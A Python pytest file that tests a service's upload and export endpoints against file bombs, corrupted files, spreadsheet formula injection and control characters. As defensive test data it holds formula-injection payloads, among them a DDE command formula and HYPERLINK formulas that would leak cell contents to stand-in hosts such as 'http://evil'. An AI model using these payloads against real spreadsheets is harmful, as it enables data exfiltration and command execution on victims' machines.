"""Uploads and exports tried as an attacker would: bombs refused clearly (413/422), broken files
answered in the error envelope, formulas exported as text, control characters refused."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.data import bombs
from tests.service.support import AUTH, TestClient
from tests.service.web.conftest import csv_bytes

UPLOAD = "/v1/prioritize/upload"
EXPORT = "/v1/lists/export"
OPTIONS = json.dumps({"capacity": 5})
FORMULA_IDS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]


def _upload(client: TestClient, content: bytes, filename: str, language: str | None = None) -> Any:
    languages = {} if language is None else {"Accept-Language": language}
    return client.post(
        UPLOAD,
        files={"file": (filename, content)},
        data={"options": OPTIONS},
        headers=AUTH | languages,
    )


def _envelope(response: Any) -> dict[str, Any]:
    assert response.headers["content-type"].startswith("application/json"), response.text[:200]
    body: dict[str, Any] = response.json()
    assert {"error", "message", "problems"} <= set(body)
    return body


@pytest.mark.parametrize(
    ("name", "build", "status", "error"),
    [
        ("far.xlsx", bombs.xlsx_far_cell, 413, "too_many_rows"),
        ("far2.xlsx", bombs.xlsx_far_cell_undeclared, 413, "too_many_rows"),
        ("gr20000.xlsx", bombs.xlsx_gr20000, 422, "invalid_file"),
        ("string.xlsx", bombs.xlsx_huge_shared_string, 413, "text_too_long"),
        ("strings.xlsx", bombs.xlsx_many_strings, 413, "too_many_strings"),
        ("entities.xlsx", bombs.xlsx_entities, 422, "unreadable_file"),
        ("truncated.xlsx", bombs.xlsx_truncated_xml, 422, "unreadable_file"),
        ("rows.parquet", bombs.parquet_rows, 413, "too_many_rows"),
        ("struct.parquet", bombs.parquet_struct, 422, "unreadable_file"),
        ("text.parquet", bombs.parquet_dictionary_text, 413, "unzipped_too_large"),
        ("pages.parquet", bombs.parquet_understated_pages, 413, "unzipped_too_large"),
        ("rows.csv", bombs.csv_rows, 413, "too_many_rows"),
        ("wide.csv", bombs.csv_wide, 413, "too_many_columns"),
        ("wide_line.csv", bombs.csv_wide_line, 413, "too_many_columns"),
        ("wide_row.csv", bombs.csv_wide_row, 422, "unreadable_file"),
    ],
)
def test_each_bomb_gets_a_clear_refusal_in_the_envelope(  # noqa: PLR0917
    client: TestClient,
    tmp_path: Path,
    name: str,
    build: Callable[[Path], Path],
    status: int,
    error: str,
) -> None:
    response = _upload(client, build(tmp_path / name).read_bytes(), name)

    assert response.status_code == status
    body = _envelope(response)
    assert body["error"] == error
    assert "\n" not in body["message"]


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("en", "unpacks to more than 536.9 MB (its texts, or its pages"),
        ("id", "terurai menjadi lebih dari 536,9 MB (teksnya, atau halaman datanya"),
    ],
)
@pytest.mark.parametrize("build", [bombs.parquet_dictionary_text, bombs.parquet_understated_pages])
def test_a_parquet_that_unpacks_too_large_is_told_so_not_called_a_workbook(
    client: TestClient,
    tmp_path: Path,
    language: str,
    words: str,
    build: Callable[[Path], Path],
) -> None:
    content = build(tmp_path / "teks.parquet").read_bytes()
    response = _upload(client, content, "teks.parquet", language)

    assert response.status_code == 413
    message = _envelope(response)["message"]
    assert words in message and "teks.parquet" in message
    assert "workbook" not in message.lower()


@pytest.mark.parametrize(
    ("language", "words", "advice"),
    [
        ("en", "cut into more than 10,000 pages", "Save it again"),
        ("id", "terpotong menjadi lebih dari 10.000 halaman", "Simpan ulang"),
    ],
)
def test_a_parquet_cut_into_too_many_pages_is_unreadable_with_one_advice(
    client: TestClient, tmp_path: Path, language: str, words: str, advice: str
) -> None:
    content = bombs.parquet_many_pages(tmp_path / "halaman.parquet").read_bytes()
    response = _upload(client, content, "halaman.parquet", language)

    assert response.status_code == 422
    body = _envelope(response)
    assert body["error"] == "unreadable_file"
    assert words in body["message"] and "halaman.parquet" in body["message"]
    assert body["message"].count(advice) == 1


@pytest.fixture(scope="module")
def large_footer(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A Parquet file whose footer is over 4 MiB (1,800 row groups of one row, 40 columns)."""
    folder = tmp_path_factory.mktemp("footer")
    return bombs.parquet_large_footer(folder / "f.parquet", groups=1_800).read_bytes()


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("en", "at most 4,194,304 are read here"),
        ("id", "paling banyak 4.194.304 yang dibaca di sini"),
    ],
)
def test_a_parquet_whose_footer_is_too_large_is_unreadable_before_it_is_parsed(
    client: TestClient, large_footer: bytes, language: str, words: str
) -> None:
    response = _upload(client, large_footer, "kelompok.parquet", language)

    assert response.status_code == 422
    body = _envelope(response)
    assert body["error"] == "unreadable_file"
    assert words in body["message"] and "kelompok.parquet" in body["message"]


def _broken(kind: str, content: bytes, cut: int, flips: list[tuple[int, int]]) -> bytes:
    """A valid file of `kind`, cut short and with some bytes replaced."""
    data = bytearray(content[: max(1, cut % (len(content) + 1))])
    for position, value in flips:
        if data:
            data[position % len(data)] = value
    return bytes(data)


@pytest.fixture(scope="module")
def valid_files(
    candidate_frame: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("fuzz")
    frame = candidate_frame.head(8)
    return {kind: csv_bytes(frame, folder, f"k.{kind}") for kind in ("csv", "xlsx", "parquet")}


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    kind=st.sampled_from(["csv", "xlsx", "parquet"]),
    cut=st.integers(min_value=0),
    flips=st.lists(st.tuples(st.integers(0), st.integers(0, 255)), max_size=6),
)
def test_broken_files_always_answer_in_the_envelope(
    client: TestClient,
    valid_files: dict[str, bytes],
    kind: str,
    cut: int,
    flips: list[tuple[int, int]],
) -> None:
    content = _broken(kind, valid_files[kind], cut, flips)

    response = _upload(client, content, f"broken.{kind}")

    if response.status_code != 200:  # a flip can leave a valid file
        assert 400 <= response.status_code < 500, response.text[:300]
        _envelope(response)


def _list_with_ids(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path, ids: list[str]
) -> dict[str, Any]:
    frame = candidate_frame.head(len(ids) + 6).copy()
    frame["digital_status"] = "offline"
    frame.loc[frame.index[: len(ids)], "msme_id"] = ids
    # As .xlsx: a CSV written by write_table would already carry the quotes.
    response = _upload(client, csv_bytes(frame, tmp_path, "k.xlsx"), "kandidat.xlsx")
    assert response.status_code == 200, response.text[:500]
    body: dict[str, Any] = response.json()
    return body


def test_exports_write_formula_ids_as_text(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    listed = _list_with_ids(client, candidate_frame, tmp_path, FORMULA_IDS)

    xlsx = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)
    workbook = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    written = [cell for cell in cells if cell.value in FORMULA_IDS]
    assert len(written) == len(FORMULA_IDS)
    assert {cell.data_type for cell in written} == {"s"}
    assert not [cell for cell in cells if cell.data_type == "f"]

    ids = []
    for part in ("selected", "not_selected"):
        text = client.post(
            EXPORT, params={"format": "csv", "part": part}, json=listed, headers=AUTH
        ).content.decode("utf-8-sig")
        header, *rows = list(csv.reader(io.StringIO(text)))
        # By header: a list not recorded has its mark first (test_preview_exports.py).
        ids += [row[header.index("ID UMKM")] for row in rows]
        numbers = [row[header.index("Peluang digital tanpa pendampingan (%)")] for row in rows]
        assert all(not value.startswith("'") for value in numbers)  # -1.5 stays a number
    assert sorted(value for value in ids if value.startswith("'")) == sorted(
        "'" + value for value in FORMULA_IDS
    )


def test_an_export_of_an_id_with_a_control_character_is_refused_without_echo(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    listed = _list_with_ids(client, candidate_frame, tmp_path, ["SECRET-1"])
    listed["selected"][0]["msme_id"] = "SECRET\x01\x0b"

    response = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)

    assert response.status_code == 422
    body = _envelope(response)
    assert [problem["field"] for problem in body["problems"]] == ["selected.0.msme_id"]
    assert body["problems"][0]["reason"].startswith("selected[0].msme_id berisi karakter kontrol")
    assert "SECRET" not in response.text
    english = client.post(
        EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH | {"Accept-Language": "en"}
    )
    assert english.json()["problems"][0]["reason"].startswith(
        "selected[0].msme_id holds a control character"
    )


def test_an_upload_with_a_tab_before_a_formula_is_refused_by_row_and_column(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    frame = candidate_frame.head(5).copy()
    frame.loc[frame.index[2], "msme_id"] = "\t=2+3"

    response = _upload(client, csv_bytes(frame, tmp_path), "kandidat.csv")

    assert response.status_code == 422
    problems = _envelope(response)["problems"]
    assert [(p["row"], p["column"]) for p in problems] == [(4, "msme_id")]
    assert "control" in problems[0]["reason"] or "kontrol" in problems[0]["reason"]


LINK_HEADER = '=HYPERLINK("http://evil/?x="&A2,"open")'


@pytest.mark.parametrize("style", ["standard", "excel_id"])
def test_a_column_of_the_files_own_named_as_a_formula_is_exported_as_text(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path, style: str
) -> None:
    """Headers went out as they were named: a live HYPERLINK in the list's CSV. In XLSX every
    header is a text cell."""
    frame = candidate_frame.head(12).copy()
    frame[LINK_HEADER] = [f"catatan {i}" for i in range(len(frame))]
    frame["+saldo"] = "=1+2"
    made = _upload(client, csv_bytes(frame, tmp_path, "k.xlsx"), "kandidat.xlsx")
    assert made.status_code == 200, made.text[:500]
    listed = made.json()
    assert {LINK_HEADER, "+saldo"} <= set(listed["source"]["columns"])

    for part in ("selected", "not_selected"):
        response = client.post(
            EXPORT,
            params={"format": "csv", "part": part, "csv_style": style},
            json=listed,
            headers=AUTH,
        )
        assert response.status_code == 200, response.text[:300]
        separator = ";" if style == "excel_id" else ","
        text = response.content.decode("utf-8-sig")
        header, *rows = list(csv.reader(io.StringIO(text), delimiter=separator))
        assert "'" + LINK_HEADER in header and "'+saldo" in header, header
        assert not [name for name in header if name.startswith(("=", "+", "-", "@"))]
        assert {row[header.index("'+saldo")] for row in rows} == {"'=1+2"}

    xlsx = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    headers = {cell.value: cell.data_type for cell in sheet[1]}
    assert headers[LINK_HEADER] == "s"


def _with_own_columns(listed: dict[str, Any], cells: dict[str, str]) -> dict[str, Any]:
    """`listed` with own columns `cells` (name -> text) on every MSME, as a list sent back."""
    listed["source"]["columns"] += list(cells)
    for part in ("selected", "not_selected"):
        for item in listed[part]:
            item["input"] |= cells
    return listed


def test_control_characters_of_own_columns_are_replaced_in_every_export(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    """The file's own columns went out raw (`a\\x07b\\x1bc`, a header `note\\t`). They are
    the file's, as the upload took them, so they are written, each control character a cell
    cannot show as U+FFFD, in CSV as in XLSX; a tab or line break stays in a cell (an address
    over two lines), and a header is one line."""
    listed = _list_with_ids(client, candidate_frame, tmp_path, ["U-1"])
    _with_own_columns(listed, {"catatan": "a\x07b\x1bc\x9b", "note\t": "Jl. Merdeka 5\nRT 02"})

    text = client.post(
        EXPORT, params={"format": "csv", "part": "selected"}, json=listed, headers=AUTH
    ).content.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    workbook = load_workbook(
        io.BytesIO(
            client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH).content
        )
    )
    sheet = workbook.worksheets[0]
    sheet_header = [cell.value for cell in sheet[1]]
    sheet_row = [cell.value for cell in sheet[2]]

    for names, row in ((header, rows[0]), (sheet_header, sheet_row)):
        assert names[-2:] == ["catatan", "note"]
        assert row[-2:] == ["a\ufffdb\ufffdc\ufffd", "Jl. Merdeka 5\nRT 02"]
    assert not [c for c in text if c < " " and c not in "\n"]


def test_a_list_sent_back_with_control_characters_in_its_reasons_is_refused(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    """The reasons are the list's own words: like its other fields, never the upload's."""
    listed = _list_with_ids(client, candidate_frame, tmp_path, ["SECRET-1"])
    listed["selected"][0]["reasons"][0]["text"] = "SECRET\x1b[31m"

    for fmt in ("csv", "xlsx"):
        response = client.post(EXPORT, params={"format": fmt}, json=listed, headers=AUTH)

        assert response.status_code == 422, response.text[:300]
        body = _envelope(response)
        assert [problem["field"] for problem in body["problems"]] == ["selected.0.reasons.0.text"]
        assert body["problems"][0]["reason"].startswith(
            "selected[0].reasons[0].text berisi karakter kontrol"
        )
        assert "SECRET" not in response.text


def test_a_recorded_list_with_an_address_over_two_lines_is_exported(
    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
) -> None:
    """A cell of the file's own over two lines (Alt+Enter in Excel) is taken by the upload and
    recorded: the list's downloads keep it, they are not refused."""
    frame = candidate_frame.head(8).copy()
    frame["alamat"] = [f"Jl. Merdeka {i}\nRT 02/RW 03" for i in range(len(frame))]
    made = client.post(
        "/v1/lists/upload",
        files={"file": ("kandidat.csv", csv_bytes(frame, tmp_path))},
        data={"options": json.dumps({"capacity": 5}), "repeat": "true"},
        headers=AUTH,
    )
    assert made.status_code == 200, made.text[:300]
    list_id = made.json()["list_id"]

    for fmt in ("csv", "xlsx"):
        response = client.get(
            f"/v1/lists/{list_id}/export", params={"format": fmt, "part": "selected"}, headers=AUTH
        )
        assert response.status_code == 200, response.text[:300]
    text = client.get(
        f"/v1/lists/{list_id}/export", params={"format": "csv", "part": "selected"}, headers=AUTH
    ).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert all(row["alamat"].endswith("\nRT 02/RW 03") for row in rows)
